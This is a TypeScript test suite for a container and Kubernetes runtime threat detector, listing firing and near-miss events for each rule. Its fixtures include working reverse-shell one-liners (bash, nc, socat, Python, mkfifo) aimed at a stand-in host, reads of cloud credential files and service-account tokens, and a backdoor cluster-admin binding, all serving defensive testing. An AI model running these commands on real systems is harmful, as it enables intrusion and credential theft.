import assert from 'node:assert/strict';
import { test } from 'node:test';
import { RuntimeEngine } from '../../../src/analyzers/runtime/engine.js';
import { loadRuleSet } from '../../../src/analyzers/runtime/rules.js';
import type { RuntimeEvent } from '../../../src/model/index.js';
import { API_CONTAINER, HOST, audit, connect, exec, file, proc, setuid } from './events.js';

/** Each default rule: events it must fire on, and near-misses it must stay quiet on. */
const CASES: Record<string, { fires: RuntimeEvent[]; quiet: RuntimeEvent[] }> = {
  'runtime.shell-in-container': {
    fires: [
      exec(proc('/bin/bash', ['bash'], { tty: true, parent: { exe: '/usr/bin/runc', name: 'runc' } })),
      exec(proc('/bin/sh', ['sh', '-c', 'id'], { parent: { exe: '/usr/local/bin/node', name: 'node' } })),
      // busybox: the executable is busybox, the process name says sh
      exec(proc('/bin/busybox', ['sh', '-i'], { name: 'sh', parent: { exe: '/usr/bin/runc', name: 'runc' } })),
      // find -exec /bin/sh: a known escape, so find is not an allowed parent
      exec(proc('/bin/sh', ['sh'], { parent: { exe: '/usr/bin/find', name: 'find' } })),
    ],
    quiet: [
      exec(proc('/bin/sh', ['sh', '/docker-entrypoint.sh'], { parent: { exe: '/usr/bin/containerd-shim-runc-v2', name: 'containerd-shim' } })),
      exec(proc('/bin/sh', ['sh', '-c', 'date'], { parent: { exe: '/bin/bash', name: 'bash' } })),
      exec(proc('/bin/bash', ['bash'], { tty: true }), HOST),
    ],
  },
  'runtime.package-manager': {
    fires: [
      exec(proc('/usr/bin/apt-get', ['apt-get', 'install', '-y', 'nmap'])),
      exec(proc('/sbin/apk', ['apk', 'add', 'socat'])),
      exec(proc('/usr/local/bin/pip', ['pip', 'install', 'requests'])),
      exec(proc('/usr/bin/python3', ['python3', '-m', 'pip', 'install', 'paramiko'])),
    ],
    quiet: [
      exec(proc('/usr/bin/dpkg', ['dpkg', '-l'])),
      exec(proc('/usr/local/bin/npm', ['npm', 'start'])),
      exec(proc('/usr/bin/apt-get', ['apt-get', 'install', 'curl']), HOST),
      exec(proc('/usr/bin/python3', ['python3', 'app.py'])),
    ],
  },
  'runtime.write-binary-dir': {
    fires: [file('open-write', '/usr/bin/ls', proc('/tmp/x')), file('chmod', '/usr/local/bin/kubectl', proc('/bin/chmod')), file('create', '/lib/x86_64-linux-gnu/libevil.so')],
    quiet: [file('open-write', '/usr/binary-data/x'), file('open-read', '/usr/bin/ls'), file('open-write', '/usr/bin/ls', proc('/usr/bin/dpkg'), HOST)],
  },
  'runtime.write-etc': {
    fires: [file('open-write', '/etc/passwd', proc('/usr/sbin/useradd')), file('create', '/etc/cron.d/job'), file('open-write', '/etc/ld.so.preload')],
    quiet: [file('open-write', '/etc/resolv.conf'), file('open-write', '/etc/nginx/conf.d/default.conf'), file('open-read', '/etc/passwd'), file('open-write', '/etcd/data')],
  },
  'runtime.credential-read': {
    fires: [
      file('open-read', '/var/run/secrets/kubernetes.io/serviceaccount/token', proc('/bin/cat')),
      file('open-read', '/root/.aws/credentials', proc('/usr/bin/python3')),
      file('open-read', '/home/app/.config/gcloud/application_default_credentials.json', proc('/usr/bin/curl')),
    ],
    quiet: [
      file('open-read', '/var/run/secrets/kubernetes.io/serviceaccount/ca.crt', proc('/bin/cat')),
      file('open-read', '/var/run/secrets/kubernetes.io/serviceaccount/token', proc('/usr/local/bin/kube-proxy')),
      file('open-write', '/root/.aws/credentials', proc('/usr/local/bin/aws')),
    ],
  },
  'runtime.metadata-access': {
    fires: [connect('169.254.169.254', 80, proc('/usr/bin/curl')), connect('100.100.100.200', 80), connect('fd00:ec2::254', 80)],
    quiet: [connect('169.254.169.253', 53), connect('169.254.169.254', 80, proc('/usr/bin/curl'), HOST), connect('169.254.169.254', 80, proc('/aws-node'), { ...API_CONTAINER, namespace: 'kube-system' })],
  },
  'runtime.mining-pool': {
    fires: [connect('45.9.148.21', 3333, proc('/tmp/xmrig')), connect('203.0.113.7', 14444, proc('/tmp/kworker'), HOST)],
    quiet: [connect('10.0.3.4', 4444), connect('45.9.148.21', 443), connect('45.9.148.21', 3333, proc('/tmp/x'), API_CONTAINER, undefined, 'udp')],
  },
  'runtime.reverse-shell': {
    fires: [
      exec(proc('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'])),
      exec(proc('/bin/nc', ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'])),
      exec(proc('/usr/bin/socat', ['socat', 'TCP:203.0.113.9:4444', 'EXEC:/bin/bash,pty,stderr'])),
      exec(proc('/usr/bin/python3', ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'])),
      exec(proc('/bin/sh', ['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'])),
    ],
    quiet: [
      exec(proc('/bin/nc', ['nc', '-z', 'db', '5432'])),
      exec(proc('/usr/bin/python3', ['python3', '-c', 'import socket; print(socket.gethostname())'])),
      exec(proc('/usr/bin/socat', ['socat', 'TCP-LISTEN:8080,fork', 'TCP:backend:80'])),
    ],
  },
  'runtime.privilege-escalation': {
    fires: [setuid(proc('/tmp/exploit', ['exploit'], { uid: 1000, euid: 0 })), setuid(proc('/usr/bin/pkexec', ['pkexec'], { uid: 1000, euid: 0 }), HOST)],
    quiet: [setuid(proc('/usr/sbin/nginx', ['nginx'], { uid: 0, euid: 101 })), setuid(proc('/usr/bin/sudo', ['sudo', 'ls'], { uid: 1000, euid: 0 }), HOST), exec(proc('/tmp/exploit', ['exploit'], { uid: 1000, euid: 0 }))],
  },
  'runtime.k8s-exec-production': {
    fires: [
      audit({ verb: 'create', requestURI: '/api/v1/namespaces/prod-payments/pods/api-1/exec?command=sh&stdin=true&tty=true', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'prod-payments', name: 'api-1', apiVersion: 'v1' }, stage: 'ResponseStarted', responseCode: 101 }),
      audit({ verb: 'create', requestURI: '/api/v1/namespaces/kube-system/pods/coredns-1/portforward', objectRef: { resource: 'pods', subresource: 'portforward', namespace: 'kube-system', name: 'coredns-1' } }),
    ],
    quiet: [
      audit({ verb: 'create', requestURI: '/api/v1/namespaces/dev/pods/api-1/exec', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'dev', name: 'api-1' } }),
      audit({ verb: 'get', requestURI: '/api/v1/namespaces/prod-payments/pods/api-1/log', objectRef: { resource: 'pods', subresource: 'log', namespace: 'prod-payments', name: 'api-1' } }),
      audit({ verb: 'create', requestURI: '/api/v1/namespaces/prod-payments/pods/api-1/exec', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'prod-payments', name: 'api-1' }, responseCode: 403 }),
    ],
  },
  'runtime.k8s-secrets-enumerated': {
    fires: [
      audit({ verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets' }, user: { username: 'system:serviceaccount:payments:api', groups: ['system:serviceaccounts'] } }),
      audit({ verb: 'watch', requestURI: '/api/v1/namespaces/payments/secrets?watch=true', objectRef: { resource: 'secrets', namespace: 'payments' } }),
    ],
    quiet: [
      audit({ verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets' }, user: { username: 'system:kube-controller-manager', groups: [] } }),
      audit({ verb: 'get', requestURI: '/api/v1/namespaces/payments/secrets/db', objectRef: { resource: 'secrets', namespace: 'payments', name: 'db' } }),
      audit({ verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets' }, responseCode: 403 }),
    ],
  },
  'runtime.k8s-anonymous-request': {
    fires: [audit({ verb: 'list', requestURI: '/api/v1/pods', objectRef: { resource: 'pods' }, user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, sourceIPs: ['198.51.100.4'] })],
    quiet: [
      audit({ verb: 'get', requestURI: '/readyz?verbose', user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } }),
      audit({ verb: 'get', requestURI: '/healthz/etcd', user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } }),
      audit({ verb: 'list', requestURI: '/api/v1/pods', objectRef: { resource: 'pods' }, user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, responseCode: 403 }),
      audit({ verb: 'list', requestURI: '/api/v1/pods', objectRef: { resource: 'pods' } }),
    ],
  },
  'runtime.k8s-privileged-pod': {
    fires: [
      audit({ verb: 'create', requestURI: '/api/v1/namespaces/payments/pods', objectRef: { resource: 'pods', namespace: 'payments', name: 'debug' }, requestObject: { kind: 'Pod', spec: { containers: [{ name: 'x', image: 'alpine', securityContext: { privileged: true } }] } } }),
      audit({ verb: 'create', requestURI: '/apis/apps/v1/namespaces/payments/daemonsets', objectRef: { resource: 'daemonsets', namespace: 'payments', name: 'ds', apiGroup: 'apps' }, requestObject: { kind: 'DaemonSet', spec: { template: { spec: { hostPID: true, containers: [{ name: 'x', image: 'alpine' }] } } } } }),
      audit({ verb: 'create', requestURI: '/apis/batch/v1/namespaces/payments/cronjobs', objectRef: { resource: 'cronjobs', namespace: 'payments', name: 'cj', apiGroup: 'batch' }, requestObject: { kind: 'CronJob', spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'x' }], volumes: [{ name: 'root', hostPath: { path: '/' } }] } } } } } } }),
    ],
    quiet: [
      audit({ verb: 'create', requestURI: '/api/v1/namespaces/payments/pods', objectRef: { resource: 'pods', namespace: 'payments', name: 'ok' }, requestObject: { kind: 'Pod', spec: { containers: [{ name: 'x', securityContext: { privileged: false, runAsNonRoot: true } }] } } }),
      audit({ verb: 'create', requestURI: '/api/v1/namespaces/kube-system/pods', objectRef: { resource: 'pods', namespace: 'kube-system', name: 'cni' }, requestObject: { kind: 'Pod', spec: { hostNetwork: true, containers: [{ name: 'x' }] } } }),
      audit({ verb: 'create', requestURI: '/api/v1/namespaces/payments/pods', objectRef: { resource: 'pods', namespace: 'payments', name: 'debug' }, requestObject: { kind: 'Pod', spec: { containers: [{ name: 'x', securityContext: { privileged: true } }] } }, responseCode: 403 }),
    ],
  },
  'runtime.k8s-cluster-admin-binding': {
    fires: [
      audit({ verb: 'create', requestURI: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', objectRef: { resource: 'clusterrolebindings', name: 'backdoor', apiGroup: 'rbac.authorization.k8s.io' }, requestObject: { kind: 'ClusterRoleBinding', roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'x', namespace: 'default' }] } }),
    ],
    quiet: [
      audit({ verb: 'create', requestURI: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', objectRef: { resource: 'clusterrolebindings', name: 'view', apiGroup: 'rbac.authorization.k8s.io' }, requestObject: { kind: 'ClusterRoleBinding', roleRef: { kind: 'ClusterRole', name: 'view' } } }),
      audit({ verb: 'create', requestURI: '/apis/rbac.authorization.k8s.io/v1/namespaces/x/rolebindings', objectRef: { resource: 'rolebindings', namespace: 'x', name: 'y' }, requestObject: { kind: 'RoleBinding', roleRef: { kind: 'Role', name: 'cluster-admin' } } }),
    ],
  },
  'runtime.k8s-webhook-weakened': {
    fires: [
      audit({ verb: 'delete', requestURI: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/rampart', objectRef: { resource: 'validatingwebhookconfigurations', name: 'rampart', apiGroup: 'admissionregistration.k8s.io' } }),
      audit({ verb: 'patch', requestURI: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/kyverno', objectRef: { resource: 'validatingwebhookconfigurations', name: 'kyverno' }, requestObject: { webhooks: [{ name: 'validate.kyverno.svc', failurePolicy: 'Ignore' }] } }),
    ],
    quiet: [
      audit({ verb: 'create', requestURI: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', objectRef: { resource: 'validatingwebhookconfigurations', name: 'new' }, requestObject: { webhooks: [{ name: 'w', failurePolicy: 'Ignore' }] } }),
      audit({ verb: 'patch', requestURI: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/kyverno', objectRef: { resource: 'validatingwebhookconfigurations', name: 'kyverno' }, requestObject: { webhooks: [{ name: 'w', failurePolicy: 'Fail' }] } }),
    ],
  },
  'runtime.k8s-events-deleted': {
    fires: [audit({ verb: 'deletecollection', requestURI: '/api/v1/namespaces/payments/events', objectRef: { resource: 'events', namespace: 'payments' } })],
    quiet: [
      audit({ verb: 'deletecollection', requestURI: '/api/v1/namespaces/payments/events', objectRef: { resource: 'events', namespace: 'payments' }, user: { username: 'system:serviceaccount:kube-system:namespace-controller', groups: [] } }),
      audit({ verb: 'list', requestURI: '/api/v1/namespaces/payments/events', objectRef: { resource: 'events', namespace: 'payments' } }),
    ],
  },
  'runtime.apiserver-config-modified': {
    fires: [file('open-write', '/etc/kubernetes/manifests/kube-apiserver.yaml', proc('/usr/bin/vim'), HOST), file('unlink', '/etc/kubernetes/audit/policy.yaml', proc('/bin/rm'), HOST)],
    quiet: [file('open-read', '/etc/kubernetes/manifests/kube-apiserver.yaml', proc('/usr/bin/kubelet'), HOST), file('open-write', '/etc/kubernetes/manifests/etcd.yaml', proc('/usr/bin/vim'), HOST), file('open-write', '/etc/kubernetes/manifests/kube-apiserver.yaml')],
  },
};

const rules = loadRuleSet().rules;

function firedBy(event: RuntimeEvent): string[] {
  // A fresh engine per event: nothing folds across cases.
  return new RuntimeEngine({ rules }).process(event).map((f) => f.checkId);
}

test('every default rule has positive and near-miss cases here', () => {
  assert.deepEqual(rules.map((r) => r.id).sort(), Object.keys(CASES).sort());
});

for (const [id, { fires, quiet }] of Object.entries(CASES)) {
  test(`${id} fires on its positive events`, () => {
    for (const event of fires) assert.ok(firedBy(event).includes(id), `${id} did not fire on ${JSON.stringify(event.kind === 'k8s-audit' ? event.requestURI : event.kind === 'file' ? event.path : event.kind === 'network' ? event.remoteAddress : event.process.args)}`);
  });
  test(`${id} stays quiet on near misses`, () => {
    for (const event of quiet) assert.ok(!firedBy(event).includes(id), `${id} fired on ${JSON.stringify(event.kind === 'k8s-audit' ? event.requestURI : event.kind === 'file' ? event.path : event.kind === 'network' ? event.remoteAddress : event.process.args)}`);
  });
}

test('no default rule raises an evaluation error on any case', () => {
  const engine = new RuntimeEngine({ rules, foldWindowMs: 0 });
  for (const { fires, quiet } of Object.values(CASES)) for (const e of [...fires, ...quiet]) engine.process(e);
  assert.deepEqual(engine.evaluationErrors(), {});
  assert.ok(engine.counters().conditionsEvaluated > 0);
});
